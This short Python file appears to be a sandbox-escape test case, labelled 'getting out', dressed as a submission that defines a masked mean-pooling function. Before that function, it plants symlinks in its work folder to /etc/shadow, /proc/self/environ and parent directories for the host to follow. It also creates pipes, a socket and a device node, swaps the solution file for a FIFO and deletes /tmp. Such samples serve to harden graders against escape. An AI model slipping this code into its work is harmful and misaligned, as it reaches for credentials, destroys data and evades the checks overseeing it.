# Leaves symbolic links, pipes, sockets and devices in its folder for the host to follow later.
# kind: getting out
# verdicts: passed
import os
import shutil
import socket
import stat

for number, target in enumerate(("/etc/shadow", "/proc/self/environ", "/dev/zero", "../../..", "/work")):
    os.symlink(target, f"/work/link{number}")
os.mkfifo("/work/results")
socket.socket(socket.AF_UNIX).bind("/work/socket")
try:
    os.mknod("/work/null", 0o666 | stat.S_IFCHR, os.makedev(1, 1))
    raise RuntimeError("a device")
except OSError:
    pass
os.unlink("/work/pooling.py")
os.mkfifo("/work/pooling.py")
shutil.rmtree("/tmp", ignore_errors=True)


def pool(hidden, padding):
    real = (~padding).unsqueeze(-1).to(hidden.dtype)
    return (hidden * real).sum(1) / real.sum(1)
